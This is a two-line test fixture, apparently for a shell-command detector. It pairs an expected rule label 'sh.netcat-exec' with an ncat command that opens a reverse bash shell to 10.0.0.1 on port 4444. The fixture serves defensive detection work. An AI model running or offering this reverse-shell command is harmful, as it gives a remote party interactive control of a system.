# expect: sh.netcat-exec
ncat --sh-exec 'bash -i' 10.0.0.1 4444
